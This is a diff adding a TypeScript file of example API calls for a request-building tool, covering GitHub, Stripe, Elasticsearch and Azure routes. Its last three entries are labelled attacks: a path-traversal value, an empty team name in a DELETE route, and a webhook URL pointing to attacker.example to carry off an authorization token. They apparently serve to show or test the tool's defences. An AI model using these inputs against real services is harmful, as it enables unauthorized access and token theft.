@@ -1,0 +1,72 @@
+import type { Fields } from "./view.js";
+
+/** A call to start from. */
+export interface Example extends Partial<Fields> {
+  readonly name: string;
+  readonly route: string;
+}
+
+/** GitHub's, in `waybill` as `github`. */
+export const profile = "baseUrl: https://api.github.com\nvendor: github\nversion: v3";
+
+/** Three of them are attacks. */
+export const examples: readonly Example[] = [
+  {
+    name: "A list, with defaults",
+    route: "GET /repos/{owner}/{repo}/issues{?state,labels}",
+    parameters: 'repo: hello-world\nstate: open\nlabels: ["bug", "good first issue"]\nper_page: 50',
+    defaults: "owner: octocat\nper_page: 100\nheaders:\n  user-agent: my-app/1.2.3",
+  },
+  {
+    name: "Create something",
+    route: "POST /repos/{owner}/{repo}/issues",
+    parameters: 'owner: octocat\nrepo: hello-world\ntitle: It\'s broken\nassignees: ["hubot"]',
+    defaults: "headers:\n  authorization: token 0000000000000000000000000000000000000001",
+  },
+  {
+    name: "A file in a folder, as it is",
+    route: "GET /repos/octocat/hello-world/contents/{+path}{?ref}",
+    parameters: "path: docs/read me.md\nref: main\nmediaType:\n  format: raw",
+  },
+  {
+    name: "Two layers of defaults",
+    route: "GET /orgs/{org}/repos",
+    parameters: "per_page: 50\nheaders:\n  x-trace: null",
+    defaults:
+      "baseUrl: https://github.example.com/api/v3\norg: octokit\nheaders:\n  x-trace: 7\n---\nper_page: 100\ntype: private",
+  },
+  {
+    name: "Lists and objects for Stripe",
+    route: "GET /charges",
+    parameters: 'created: {"gte": 1700000000}\nexpand: ["data.customer"]\nlimit: 3',
+    profile: "baseUrl: https://api.stripe.com/v1\narrays: indices\nobjects: brackets",
+  },
+  {
+    name: "A search with a body, for Elasticsearch",
+    route: "POST /{index}/_search{?routing}",
+    parameters: 'index: logs-2025\nrouting: eu\nquery: {"match": {"level": "error"}}\nsize: 5',
+    profile: "baseUrl: https://search.example.com:9200",
+  },
+  {
+    name: "A version in every query, for Azure",
+    route: "DELETE /subscriptions/{id}",
+    parameters: "id: 0000-0001",
+    profile: 'baseUrl: https://management.azure.com\nquery: {"api-version": "2024-11-01"}',
+  },
+  {
+    name: "Attack: a path that climbs to another one",
+    route: "GET /repos/octocat/hello-world/contents/{+path}",
+    parameters: "path: ../../../../user/emails",
+  },
+  {
+    name: "Attack: an empty name",
+    route: "DELETE /orgs/{org}/teams/{team}",
+    parameters: 'org: octokit\nteam: ""',
+  },
+  {
+    name: "Attack: a parameter that takes the token elsewhere",
+    route: "PATCH /app/hook/config",
+    parameters: "url: https://attacker.example/steal",
+    defaults: "headers:\n  authorization: token 0000000000000000000000000000000000000001",
+  },
+];
